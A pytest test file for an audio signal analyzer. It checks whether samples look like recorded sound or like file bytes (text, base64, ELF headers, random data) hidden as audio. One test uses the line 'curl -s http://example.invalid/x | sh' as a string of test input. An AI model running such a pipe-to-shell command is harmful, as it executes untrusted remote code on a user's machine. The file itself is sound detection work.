"""Signal features on small generated inputs: sound looks like sound, data like data."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import numpy.typing as npt
import pytest

from audiomodel.findings import Severity
from audiomodel.signal import FEATURE_NAMES, SignalAnalyzer, SignalReport

RATE = 22050


def music_like(seconds: float = 3.0, seed: int = 0, channels: int = 2) -> npt.NDArray[np.int16]:
    """Notes with harmonics, attack/decay envelopes, a noise floor, slightly different channels."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    t = np.arange(n) / RATE
    out = np.zeros(n)
    for start in np.arange(0.0, seconds, 0.25):
        f0 = 110.0 * 2 ** (rng.integers(0, 24) / 12)
        idx = slice(int(start * RATE), n)
        tt = t[idx] - start
        env = np.exp(-tt * 4.0) * (1 - np.exp(-tt * 200.0))
        for h in range(1, 6):
            out[idx] += env * np.sin(2 * np.pi * f0 * h * tt) / h**1.5
    out = 0.3 * out / np.abs(out).max() + rng.normal(0, 3e-4, n)
    stereo = np.stack([out, np.roll(out, 3) * 0.9], axis=1)[:, :channels]
    return np.clip(np.rint(stereo * 32767), -32768, 32767).astype(np.int16)


def analyse(ints: npt.NDArray[np.int16], block: int = 65536) -> SignalReport:
    analyzer = SignalAnalyzer(sample_rate=RATE, channels=ints.shape[1])
    for start in range(0, ints.shape[0], block):
        chunk = ints[start : start + block]
        analyzer.update(chunk)
    return analyzer.report()


def text_as_samples(channels: int = 1) -> npt.NDArray[np.int16]:
    """The original mock recipe: each character's code point as a sample."""
    text = (b"def main():\n    for i in range(10):\n        print('hello', i)\n" * 2000)[
        : 3 * RATE * channels
    ]
    codes = np.frombuffer(text, dtype=np.uint8).astype(np.int16) * 64
    return codes.reshape(-1, channels)


def bytes_as_int16(seed: int = 1) -> npt.NDArray[np.int16]:
    return (
        np.random.default_rng(seed)
        .integers(0, 256, 3 * RATE * 2, dtype=np.uint8)
        .view(np.int16)
        .reshape(-1, 1)
    )


def test_every_declared_feature_is_reported_and_finite() -> None:
    features = analyse(music_like()).features
    assert set(features) == set(FEATURE_NAMES)
    assert all(np.isfinite(v) for v in features.values())


def test_music_is_smooth_varied_and_uses_many_sample_values() -> None:
    f = analyse(music_like()).features
    assert f["lag1_corr"] > 0.8
    assert f["log_distinct"] > 3.0
    assert f["envelope_db_std"] > 2.0
    assert f["printable_byte_ratio"] < 0.6


def test_text_as_samples_is_printable_and_has_few_values() -> None:
    f = analyse(text_as_samples()).features
    assert f["log_distinct"] < 2.1  # at most ~100 distinct code points
    assert f["dc_ratio"] > 0.8  # all samples positive


def test_random_bytes_as_samples_are_white() -> None:
    f = analyse(bytes_as_int16()).features
    assert abs(f["lag1_corr"]) < 0.05
    assert f["flatness_mean"] > 0.8
    assert f["envelope_db_std"] < 0.5


def test_a_waveform_that_never_crosses_zero_is_one_sided() -> None:
    """Text written as samples is all positive; so is a binary whose words stay small and
    positive (a shared library did, and the model let it through)."""
    codes = [f.code for f in analyse(text_as_samples()).findings]
    assert "signal.one_sided" in codes
    words = np.random.default_rng(4).integers(0, 3000, (2 * RATE, 1))
    held = np.repeat(words[::8], 8, axis=0)[: 2 * RATE].astype(np.int16)  # repeated words
    one_sided = [f for f in analyse(held).findings if f.code == "signal.one_sided"]
    assert one_sided and one_sided[0].evidence["audible_s"] >= 1.9


def test_recorded_sound_and_short_one_sided_hits_are_not_one_sided() -> None:
    assert "signal.one_sided" not in [f.code for f in analyse(music_like()).findings]
    # A half-second positive pulse (a kick's first swing, cut short) is too short to judge.
    pulse = (np.sin(np.linspace(0, np.pi, RATE // 2)) * 20000).astype(np.int16)[:, None]
    assert "signal.one_sided" not in [f.code for f in analyse(pulse).findings]


def test_zero_rich_bytes_resting_on_the_negative_rail_are_one_sided() -> None:
    """A binary's zero bytes written as top bytes sit on the negative rail: bytes 80 % zeros,
    each held 64 samples, cross zero on their non-zero bytes but rest on one rail with a mean
    far from zero, which no AC-coupled converter's output does."""
    rng = np.random.default_rng(21)
    raw = np.where(rng.random(4 * RATE // 64) < 0.8, 0, rng.integers(1, 256, 4 * RATE // 64))
    ints = ((np.repeat(raw, 64) - 128) << 8).astype(np.int16)[:, None]
    found = [f for f in analyse(ints).findings if f.code == "signal.one_sided"]
    assert found and float(found[0].evidence["rail_share"]) >= 0.7  # type: ignore[arg-type]


def test_a_lopsided_wave_clipped_on_one_rail_is_not_one_sided() -> None:
    """An AC-coupled pulse wave (30 % duty, mean zero) with a tone on it, driven into a hard
    clip: its pulses sit on the positive rail for 30 % of the samples and it never reaches the
    negative one, but its mean stays near zero: a converter's output, not bytes."""
    t = np.arange(3 * RATE) / RATE
    pulse = np.where((t * 80) % 1 < 0.3, 1.0, -0.3 / 0.7) + 0.1 * np.sin(2 * np.pi * 440 * t)
    ints = np.clip(pulse * 1.2 * 32767, -32768, 32767).astype(np.int16)
    assert np.mean(ints == 32767) >= 0.25 and np.mean(ints == -32768) == 0
    assert "signal.one_sided" not in [f.code for f in analyse(ints[:, None]).findings]


def test_silence_is_reported_as_silence() -> None:
    report = analyse(np.zeros((RATE, 2), dtype=np.int16))
    assert [f.code for f in report.findings] == ["signal.silence"]


@pytest.mark.parametrize(
    "pattern",
    [
        np.full(RATE * 2, 1000, dtype=np.int16),  # constant
        (np.arange(RATE * 2) % 2000 * 16 - 16000).astype(np.int16),  # sawtooth ramp from a counter
        # +-12000 held for random runs: bits sent as polarity, not a periodic square wave
        np.repeat(np.random.default_rng(8).choice([12000, -12000], RATE * 2 // 20), 20).astype(
            np.int16
        ),
        np.round(np.linspace(-32768.0, 32767.0, RATE * 4)).astype(np.int16),  # one slow ramp
    ],
    ids=["constant", "ramp", "polarity bits", "slow ramp"],
)
def test_synthetic_patterns_are_reported(pattern: npt.NDArray[np.int16]) -> None:
    codes = [f.code for f in analyse(pattern.reshape(-1, 1)).findings]
    assert "signal.synthetic" in codes


def test_steady_pure_tone_is_reported_but_a_plucked_note_is_not() -> None:
    t = np.arange(RATE * 3) / RATE
    tone = (0.5 * np.sin(2 * np.pi * 440 * t) * 32767).astype(np.int16).reshape(-1, 1)
    assert "signal.pure_tone" in [f.code for f in analyse(tone).findings]
    assert "signal.pure_tone" not in [f.code for f in analyse(music_like(channels=1)).findings]


def test_streaming_in_small_blocks_gives_the_same_features_as_one_block() -> None:
    ints = music_like(seconds=4.0)
    whole = analyse(ints, block=ints.shape[0]).features
    small = analyse(ints, block=4096).features
    for name in FEATURE_NAMES:
        assert small[name] == pytest.approx(whole[name], rel=1e-5, abs=1e-9), name


def test_mismatched_channel_count_is_a_clear_error() -> None:
    analyzer = SignalAnalyzer(sample_rate=RATE, channels=2)
    with pytest.raises(ValueError, match="expected"):
        analyzer.update(np.zeros((10, 1), dtype=np.int16))


def test_text_bytes_read_as_16_bit_samples_are_all_printable() -> None:
    text = (b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n" * 4000)[: RATE * 4]
    f = analyse(np.frombuffer(text, dtype="<i2").reshape(-1, 1)).features
    assert f["printable_byte_ratio"] > 0.99


def test_level_statistics_come_out_right_from_the_histogram() -> None:
    ints = np.array([[-32768], [32767], [0], [0]], dtype=np.int16).repeat(RATE, axis=0)
    f = analyse(ints).features
    assert f["clip_ratio"] == pytest.approx(0.5)
    assert f["dc_ratio"] < 0.01


def test_long_tracks_keep_a_bounded_evenly_spread_set_of_spectra() -> None:
    from audiomodel.signal import MAX_SPECTRA

    analyzer = SignalAnalyzer(sample_rate=8000, channels=1)
    block = music_like(seconds=10.0, channels=1)
    for _ in range(60):  # ten minutes
        analyzer.update(block)
    assert MAX_SPECTRA // 2 <= len(analyzer._spectra) < MAX_SPECTRA
    assert analyzer.report().features["flatness_mean"] > 0


def test_a_slow_full_range_ramp_is_reported_as_synthetic() -> None:
    import io

    import soundfile as sf

    from audioval_corpus.threats import synthetic_signal

    ramp, _ = sf.read(
        io.BytesIO(synthetic_signal("ramp", seconds=4.0, sample_rate=RATE)),
        dtype="int16",
        always_2d=True,
    )
    assert "signal.synthetic" in [f.code for f in analyse(ramp).findings]


def test_a_decaying_tom_like_tone_is_not_a_pure_tone() -> None:
    t = np.arange(RATE * 3) / RATE
    tom = 0.8 * np.exp(-t * 1.5) * np.sin(2 * np.pi * 110 * t)
    ints = (tom * 32767).astype(np.int16).reshape(-1, 1)
    assert [f.code for f in analyse(ints).findings] == []


def test_clips_shorter_than_one_spectrum_segment_still_get_spectral_features() -> None:
    noise = np.random.default_rng(5).integers(-20000, 20000, (2000, 1)).astype(np.int16)
    assert analyse(noise).features["flatness_mean"] > 0.5


def test_bytes_of_a_file_fill_both_byte_lanes_alike_but_recorded_sound_does_not() -> None:
    data = analyse(bytes_as_int16()).features["byte_lane_distance"]
    text = analyse(
        np.frombuffer(b"int main(void) { return 0; }\n" * 8000, dtype="<i2").reshape(-1, 1)
    )
    sound = analyse(music_like()).features["byte_lane_distance"]
    assert data < 0.05 and text.features["byte_lane_distance"] < 0.2
    assert sound > 0.4


def test_a_heavily_clipped_recording_is_noted() -> None:
    loud = np.clip(music_like().astype(np.int32) * 8, -32768, 32767).astype(np.int16)
    codes = [f.code for f in analyse(loud).findings]
    assert "signal.clipping" in codes


def file_like_samples(seed: int = 5, fields: int = 400) -> npt.NDArray[np.int16]:
    """What a binary looks like read as 16-bit samples: loud fields between zero padding and
    tables of one repeated value."""
    rng = np.random.default_rng(seed)
    parts = []
    for _ in range(fields):
        parts.append(rng.integers(-32768, 32767, int(rng.integers(2, 12))))
        parts.append(np.zeros(int(rng.integers(4, 40)), dtype=np.int64))
        if rng.random() < 0.3:
            parts.append(np.full(int(rng.integers(8, 64)), int(rng.integers(200, 20000))))
    return np.concatenate(parts).astype(np.int16).reshape(-1, 1)


def test_zero_padded_fields_are_the_structure_of_a_file_not_sound() -> None:
    report = analyse(file_like_samples())
    assert report.features["zero_edge_ratio"] > 0.03
    assert report.features["hold_ratio"] > 0.1
    flagged = [f for f in report.findings if f.code == "signal.data_as_audio"]
    assert flagged and flagged[0].evidence["zero_edges"] >= 64


def test_an_8_bit_sound_widened_and_normalised_is_judged_at_its_own_steps() -> None:
    """An 8-bit sound exported at 16 bits after a normalisation with TPDF dither keeps each
    level within a code of a multiple of ~1,300: a neighbour of its zero is one of its steps,
    not a loud sample beside a zero-padded field (coarse_sound)."""
    rng = np.random.default_rng(4)
    sound = music_like(seconds=3.0, channels=1).astype(np.float64) / 10  # quiet: few codes
    eight_bit = np.rint(sound / 256) * 256  # stored at 8 bits
    normalised = eight_bit * (26000 / np.abs(eight_bit).max())
    dither = rng.uniform(-0.5, 0.5, normalised.shape) + rng.uniform(-0.5, 0.5, normalised.shape)
    widened = np.rint(normalised + dither).astype(np.int16)
    report = analyse(widened)
    assert report.features["zero_edge_ratio"] > 0.01  # every step beside zero is "loud"
    assert not any(f.severity >= Severity.SUSPICIOUS for f in report.findings), report.findings


def test_zero_padded_bytes_written_as_high_bytes_keep_their_zero_edges() -> None:
    """Bytes written into the high byte of 16-bit samples also leave the small values empty,
    but they are white: the zero edges still count."""
    rng = np.random.default_rng(3)
    parts = []
    for _ in range(3000):
        parts.append(rng.integers(0, 256, int(rng.integers(2, 12))))
        parts.append(np.zeros(int(rng.integers(4, 40)), dtype=np.int64))
    high_bytes = (np.concatenate(parts) << 8).astype(np.int16).reshape(-1, 1)
    report = analyse(high_bytes)
    assert any(f.code == "signal.data_as_audio" for f in report.findings)


def test_music_fades_into_silence_instead_of_jumping_to_exact_zero() -> None:
    quiet_start = music_like()
    quiet_start[: RATE // 2] = 0  # digital silence, then the notes
    report = analyse(quiet_start)
    assert report.features["zero_edge_ratio"] < 0.003
    assert report.features["hold_ratio"] < 0.05
    assert not any(f.code == "signal.data_as_audio" for f in report.findings)


def test_an_executable_header_at_the_start_of_the_samples_is_data_as_audio() -> None:
    rng = np.random.default_rng(6)
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + rng.bytes(20000)
    report = analyse(np.frombuffer(elf, dtype="<i2").astype(np.int16).reshape(-1, 1))
    found = [f for f in report.findings if f.code == "signal.data_as_audio"]
    assert found and found[0].evidence["found"] == "elf" and found[0].evidence["byte_offset"] == 0


def test_an_executable_stored_as_8_bit_samples_is_found_in_the_stored_bytes() -> None:
    rng = np.random.default_rng(7)
    elf = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x03\x00" + rng.bytes(20000)
    # 8-bit unsigned samples rendered to 16 bits, as the validator hands them over.
    rendered = ((np.frombuffer(elf, np.uint8).astype(np.int16) - 128) << 8).reshape(-1, 1)
    analyzer = SignalAnalyzer(sample_rate=8000, channels=1, bits_per_sample=8)
    analyzer.update(rendered.astype(np.int16))
    found = [f for f in analyzer.report().findings if f.code == "signal.data_as_audio"]
    assert found and found[0].evidence["found"] == "elf"


def test_music_samples_hold_no_file_header() -> None:
    assert not any(f.code == "signal.data_as_audio" for f in analyse(music_like()).findings)


def test_block_boundaries_do_not_change_pair_and_structure_features() -> None:
    ints = np.concatenate([file_like_samples(), music_like(seconds=0.5, channels=1)])
    whole = analyse(ints, block=ints.shape[0]).features
    tiny = analyse(ints, block=7).features
    for name in ("hold_ratio", "zero_edge_ratio", "ramp_ratio", "lag1_corr", "lag2_corr", "zcr"):
        assert tiny[name] == pytest.approx(whole[name], rel=1e-9, abs=1e-12), name


def test_nan_and_infinite_floats_render_as_silence_and_full_scale() -> None:
    from audiomodel.signal import to_int16

    floats = np.array([[np.nan], [np.inf], [-np.inf], [0.5]], dtype=np.float32)
    assert to_int16(floats)[:, 0].tolist() == [0, 32767, -32768, 16384]


def test_a_tone_crossing_zero_on_the_sample_grid_has_no_zero_edges_in_any_block_size() -> None:
    """4 kHz at 48 kHz crosses zero exactly on every sixth sample, between mirror values."""
    t = np.arange(48000 * 3) / 48000
    tone = np.rint(0.5 * np.sin(2 * np.pi * 4000 * t) * 32767).astype(np.int16).reshape(-1, 1)
    assert np.count_nonzero(tone == 0) == tone.shape[0] // 6  # two crossings a period of 12
    for block in (tone.shape[0], 7):
        analyzer = SignalAnalyzer(sample_rate=48000, channels=1)
        for start in range(0, tone.shape[0], block):
            analyzer.update(tone[start : start + block])
        report = analyzer.report()
        # the first sample's zero has no sample before it to mirror: one edge, no more
        assert report.features["zero_edge_ratio"] * tone.shape[0] == pytest.approx(1.0)
        assert not any(f.code == "signal.data_as_audio" for f in report.findings)


def test_zero_padding_between_mirror_values_is_still_an_edge_past_a_block_boundary() -> None:
    """A zero between mirror values is a crossing; one beside another zero is padding."""
    fields = np.tile(np.array([9000, 0, -9000, 0, 0, 0, 9000], dtype=np.int16), 4000)
    ints = fields.reshape(-1, 1)
    whole = analyse(ints, block=ints.shape[0]).features["zero_edge_ratio"]
    # per 7 samples: the zero at index 1 crosses; indexes 3 and 5 are each next to one loud one
    assert whole == pytest.approx(2 / 7, rel=1e-3)
    assert analyse(ints, block=7).features["zero_edge_ratio"] == pytest.approx(whole, rel=1e-12)
    assert analyse(ints, block=3).features["zero_edge_ratio"] == pytest.approx(whole, rel=1e-12)


def test_float32_rendering_to_16_bits_matches_the_float64_rendering_bit_for_bit() -> None:
    from audiomodel.signal import to_int16

    rng = np.random.default_rng(3)
    values = np.concatenate(
        [
            rng.uniform(-1.2, 1.2, 20000),
            (np.arange(-40, 40) + 0.5) / 32768.0,  # half-way values round to even
            [np.nan, np.inf, -np.inf, 3e38, -3e38, 1e-40, -1.0, 32767 / 32768, 1.0],
        ]
    ).astype(np.float32)
    block = values.reshape(-1, 1)
    with np.errstate(invalid="ignore", over="ignore"):
        expected = np.clip(
            np.nan_to_num(
                np.rint(block.astype(np.float64) * 32768.0),
                nan=0.0,
                posinf=32767.0,
                neginf=-32768.0,
            ),
            -32768,
            32767,
        ).astype(np.int16)
    np.testing.assert_array_equal(to_int16(block), expected)


def test_a_shared_channel_sum_gives_the_same_report_as_the_analyzer_computing_its_own() -> None:
    from audiomodel.signal import channel_sum

    rng = np.random.default_rng(4)
    blocks = [
        (rng.standard_normal((n, 2)) * 3000).astype(np.int16) for n in (65536, 1000, 65536, 7)
    ]
    own = SignalAnalyzer(sample_rate=44100, channels=2)
    shared = SignalAnalyzer(sample_rate=44100, channels=2)
    for block in blocks:
        own.update(block)
        shared.update(block, summed=channel_sum(block))
    a, b = own.report(), shared.report()
    assert a.features == b.features
    assert [f.code for f in a.findings] == [f.code for f in b.findings]


def log_sweep(seconds: float = 4.0, level: float = 0.9) -> npt.NDArray[np.int16]:
    """A 20 Hz - 10 kHz log sweep at a steady level, hard-limited like a loud master."""
    t = np.arange(int(seconds * RATE)) / RATE
    k = np.log(10000.0 / 20.0) / seconds
    wave = np.clip(1.4 * np.sin(2 * np.pi * 20.0 * (np.exp(k * t) - 1) / k), -1, 1)
    samples: npt.NDArray[np.int16] = np.rint(level * 32767 * wave).astype(np.int16)
    return samples.reshape(-1, 1)


def test_a_clipped_sweep_and_music_carry_no_sign_of_bytes() -> None:
    assert analyse(log_sweep()).data_signs == ()
    assert analyse(music_like()).data_signs == ()


def test_base64_bytes_as_16_bit_samples_show_a_skewed_low_byte() -> None:
    alphabet = np.frombuffer(
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", dtype=np.uint8
    )
    raw = np.random.default_rng(3).choice(alphabet, 3 * RATE * 2)
    key = np.resize(np.frombuffer(b"\x8f\x13\xa2\x5c\x07\xe1\x90\x3b", dtype=np.uint8), raw.size)
    samples = (raw ^ key).view(np.int16).reshape(-1, 1)
    assert "low_byte" in analyse(samples).data_signs


def test_quiet_tracks_carry_no_sign_of_bytes() -> None:
    # A -60 dBFS room: its few loud samples and its mean prove nothing about bytes.
    quiet = np.rint(np.random.default_rng(4).normal(0, 30, (3 * RATE, 1))).astype(np.int16)
    assert analyse(quiet).data_signs == ()


def test_a_quiet_8_bit_track_is_not_a_synthetic_pattern_but_a_constant_is() -> None:
    rng = np.random.default_rng(5)
    quiet = (rng.integers(-1, 2, (3 * RATE, 1)) * 256).astype(np.int16)  # 8-bit codes -1, 0, 1
    analyzer = SignalAnalyzer(sample_rate=RATE, channels=1, bits_per_sample=8)
    analyzer.update(quiet)
    assert "signal.synthetic" not in {x.code for x in analyzer.report().findings}
    constant = np.full((3 * RATE, 1), 3 * 256, dtype=np.int16)
    analyzer = SignalAnalyzer(sample_rate=RATE, channels=1, bits_per_sample=8)
    analyzer.update(constant)
    assert "signal.synthetic" in {x.code for x in analyzer.report().findings}


def test_random_bytes_are_white_and_uniform_but_white_gaussian_hiss_is_not() -> None:
    assert "white_uniform" in analyse(bytes_as_int16()).data_signs
    hiss = np.random.default_rng(6).normal(0, 4000, (3 * RATE, 1))
    assert "white_uniform" not in analyse(np.rint(hiss).astype(np.int16)).data_signs


def test_a_generators_white_noise_limited_or_clipped_is_not_uniform_bytes() -> None:
    # sox's and Audacity's white noise is uniform values between +-amplitude, as bytes are; a
    # limiter or a clip piles them at its ceiling (kurtosis under 1.7), which bytes never do
    uniform = np.random.default_rng(7).uniform(-1, 1, (3 * RATE, 1))
    limited = np.tanh(3 * uniform) / np.tanh(3)  # a soft limiter driven ~+10 dB
    clipped = np.clip(1.6 * uniform, -1, 1)  # a hard clip +4 dB: over a third at the rails
    for noise in (limited, clipped):
        assert "white_uniform" not in analyse(np.rint(noise * 28000).astype(np.int16)).data_signs
    # ... nor at the level it was set to (bytes have none: they reach both rails), nor clipped
    # lightly (uniform still, but piled on the rails)
    at_level = np.rint(uniform * 0.5 * 32767).astype(np.int16)  # -6 dBFS
    lightly = np.rint(np.clip(1.05 * uniform, -1, 1) * 32767).astype(np.int16)  # ~2 % per rail
    for noise_ints in (at_level, lightly):
        assert "white_uniform" not in analyse(noise_ints).data_signs
    assert "white_uniform" in analyse(bytes_as_int16()).data_signs
    full = np.rint(uniform * 32767).astype(np.int16)  # a generator at 0 dBFS: bytes' numbers
    assert "white_uniform" in analyse(full).data_signs


def _analyse_stored(ints: npt.NDArray[np.int16], bits: int) -> SignalReport:
    analyzer = SignalAnalyzer(sample_rate=RATE, channels=ints.shape[1], bits_per_sample=bits)
    analyzer.update(ints)
    return analyzer.report()


def _silence_severity(report: SignalReport) -> Severity | None:
    found = [f.severity for f in report.findings if f.code == "signal.silence"]
    return found[0] if found else None


def test_a_noise_floor_and_digital_silence_are_noted_but_the_lowest_bit_as_a_square_is_held() -> (
    None
):
    rng = np.random.default_rng(11)
    t = np.arange(3 * RATE) / RATE
    # A 1 kHz tone at -96 dBFS under TPDF dither: five codes around zero.
    tone = (
        0.5 * np.sin(2 * np.pi * 1000 * t) + rng.uniform(-1, 1, t.size) + rng.uniform(-1, 1, t.size)
    )
    floor = np.rint(tone).astype(np.int16).reshape(-1, 1)
    assert _silence_severity(analyse(floor)) is Severity.INFO
    # One value, no sound and nothing carried: noted. A DC offset of a code holds no more.
    assert _silence_severity(analyse(np.zeros((RATE, 1), dtype=np.int16))) is Severity.INFO
    assert _silence_severity(analyse(np.ones((RATE, 2), dtype=np.int16))) is Severity.INFO
    # The lowest bit as a square (bytes 0x00/0xFF in runs): two codes, no noise floor.
    lowest_bit = -(np.arange(2 * RATE) // 40 % 2).astype(np.int16).reshape(-1, 1)
    assert _silence_severity(analyse(lowest_bit)) is Severity.SUSPICIOUS


def test_an_8_bit_noise_floor_is_near_silence_in_its_own_codes() -> None:
    # A quiet 8-bit room: TPDF dither over the codes -1, 0, +1 (256 16-bit LSBs each).
    rng = np.random.default_rng(12)
    codes = np.rint(rng.uniform(-0.5, 0.5, 3 * RATE) + rng.uniform(-0.5, 0.5, 3 * RATE))
    room = (codes * 256).astype(np.int16).reshape(-1, 1)
    report = _analyse_stored(room, 8)
    assert _silence_severity(report) is Severity.INFO
    assert "signal.synthetic" not in {f.code for f in report.findings}


def test_a_periodic_square_wave_test_signal_is_not_a_synthetic_pattern() -> None:
    square = np.where(np.arange(RATE * 3) // 50 % 2 == 0, 4420, -4420).astype(np.int16)
    codes = [f.code for f in analyse(square.reshape(-1, 1)).findings]
    assert "signal.synthetic" not in codes


def test_a_triangle_sweep_spreads_evenly_but_is_not_a_synthetic_pattern() -> None:
    t = np.arange(4 * RATE) / RATE
    phase = 2 * np.pi * (100.0 * t + 200.0 * t * t)  # 100 Hz gliding up to 1.7 kHz
    triangle = 2 / np.pi * np.arcsin(np.sin(phase))
    rng = np.random.default_rng(13)
    samples = np.rint(0.6 * 32767 * triangle + rng.uniform(-1, 1, t.size)).astype(np.int16)
    codes = [f.code for f in analyse(samples.reshape(-1, 1)).findings]
    assert "signal.synthetic" not in codes
    # Uniform random values fill their range as evenly, and are white: still synthetic.
    assert "signal.synthetic" in [f.code for f in analyse(bytes_as_int16()).findings]


def test_zeros_beside_loud_samples_are_no_sign_of_bytes_in_8_bit_audio() -> None:
    # Loud rain in 8-bit codes: zero is one of 256 levels, so the noise lands on it beside
    # loud samples by chance (an 8-bit file's zero bytes would decode to the negative rail).
    rng = np.random.default_rng(14)
    rain = np.clip(np.rint(rng.normal(0, 30, 3 * RATE)), -128, 127) * 256
    samples = rain.astype(np.int16).reshape(-1, 1)
    assert analyse(samples).features["zero_edge_ratio"] >= 0.005  # as 16-bit: a sign
    assert "zero_edges" in analyse(samples).data_signs
    assert "zero_edges" not in _analyse_stored(samples, 8).data_signs


def test_one_short_period_repeated_exactly_has_no_skewed_low_byte_sign() -> None:
    # A generated square at 31.25 Hz (256 samples at 8 kHz), band-limited and with a fixed
    # ripple, repeated exactly as a signal generator and a deterministic codec give it, with
    # a fade at each end: its histogram is one period's values, piled at the edges.
    rate = 8000
    t = np.arange(256)
    wave = sum(np.sin(2 * np.pi * k * t / 256) / k for k in range(1, 16, 2))
    period = 4420 * 4 / np.pi * wave + np.random.default_rng(16).normal(0, 2, 256)
    looped = np.tile(period, int(11.4 * rate / 256))
    fade = np.ones(looped.size)
    fade[:256], fade[-256:] = np.linspace(0, 1, 256), np.linspace(1, 0, 256)
    samples = np.rint(looped * fade).astype(np.int16).reshape(-1, 1)
    analyzer = SignalAnalyzer(sample_rate=rate, channels=1)
    analyzer.update(samples)
    assert "low_byte" not in analyzer.report().data_signs


def _two_tone_8_bit(rate: int, high: float, seed: int = 0) -> npt.NDArray[np.int16]:
    """SMPTE-style two-tone (60 Hz + ``high``) at -1 dBFS stored as 8-bit codes with TPDF
    dither, rendered to 16 bits (a code is 256 LSB)."""
    t = np.arange(rate * 4) / rate
    x = 0.45 * (np.sin(2 * np.pi * 60 * t) + np.sin(2 * np.pi * high * t))
    dither = np.random.default_rng(seed).uniform(-0.5, 0.5, (2, t.size)).sum(axis=0)
    codes = np.clip(np.rint(x * 127 + dither), -128, 127)
    return (codes * 256).astype(np.int16).reshape(-1, 1)


def analyse_8_bit(ints: npt.NDArray[np.int16], rate: int) -> SignalReport:
    analyzer = SignalAnalyzer(sample_rate=rate, channels=ints.shape[1], bits_per_sample=8)
    analyzer.update(ints)
    return analyzer.report()


@pytest.mark.parametrize(("rate", "high"), [(8000, 3000), (16000, 7000), (32000, 7000)])
def test_an_8_bit_two_tone_passing_the_zero_code_is_not_zero_padding(
    rate: int, high: float
) -> None:
    """A loud bright tone at 8 bits lands on the zero code beside a loud sample as often as on
    the codes either side: many zero edges, none of them padding."""
    report = analyse_8_bit(_two_tone_8_bit(rate, high), rate)
    assert report.features["zero_edge_ratio"] >= 0.02  # what the rule alone would hold
    assert not any(
        f.code == "signal.data_as_audio" and "zero" in f.message for f in report.findings
    )


def test_8_bit_samples_with_zero_padded_fields_keep_their_zero_edges() -> None:
    """Loud values cut into fields by runs of the zero code: zero beside loud samples far more
    often than its neighbouring codes."""
    rng = np.random.default_rng(5)
    fields = []
    for _ in range(4000):
        fields.append(rng.choice([-1, 1], 6) * rng.integers(20, 128, 6))
        fields.append(np.zeros(int(rng.integers(1, 4))))
    codes = np.concatenate(fields)
    report = analyse_8_bit((codes * 256).astype(np.int16).reshape(-1, 1), 8000)
    assert report.features["zero_edge_ratio"] >= 0.02
    assert any(f.code == "signal.data_as_audio" and "zero" in f.message for f in report.findings)


def _synthetic(ints: npt.NDArray[np.int16]) -> bool:
    return "signal.synthetic" in {x.code for x in analyse(ints).findings}


def test_a_generators_white_noise_at_its_level_is_not_flat_bytes_but_bytes_are() -> None:
    # sox ``synth whitenoise vol 0.9`` and numpy's uniform draws: floats between +-amplitude
    # quantised once, every code of the span used as often as chance allows
    rng = np.random.default_rng(21)
    for amplitude in (0.9, 0.6):
        noise = rng.uniform(-amplitude, amplitude, (10 * RATE, 1)) * 32767
        assert not _synthetic(np.rint(noise).astype(np.int16))
    # bytes have no level: they reach both rails (and a generator at full scale is held too)
    assert _synthetic(bytes_as_int16())
    assert _synthetic(np.rint(rng.uniform(-1, 1, (10 * RATE, 1)) * 32767).astype(np.int16))
    # random words scaled down merge two codes into one every few codes: a comb of counts
    words = rng.integers(-32768, 32768, (10 * RATE, 1))
    for gain in (0.8, 0.5):
        assert _synthetic(np.rint(words * gain).astype(np.int16))


def test_a_tone_of_a_few_samples_a_period_has_no_low_byte_sign() -> None:
    # 1 kHz at 8 kHz (8 phases), faded in and out and dithered: a few hundred values used, a
    # handful in effect; their low byte is where they fall, not a file's bytes
    rng = np.random.default_rng(22)
    n = 10 * 8000
    t = np.arange(n) / 8000
    fade = np.minimum(1.0, np.minimum(t, t[-1] - t) / 0.05)
    tone = 0.89 * 32767 * fade * np.sin(2 * np.pi * 1000 * t) + rng.uniform(-1, 1, n) * 2
    analyzer = SignalAnalyzer(sample_rate=8000, channels=1)
    analyzer.update(np.rint(tone).astype(np.int16).reshape(-1, 1))
    assert "low_byte" not in analyzer.report().data_signs
    # source code (this file) as samples keeps hundreds of values in effect, and the sign
    source = Path(__file__).read_bytes()
    code = np.frombuffer(source[: len(source) // 2 * 2], dtype="<i2").reshape(-1, 1)
    assert "low_byte" in analyse(np.tile(code, (4, 1))).data_signs
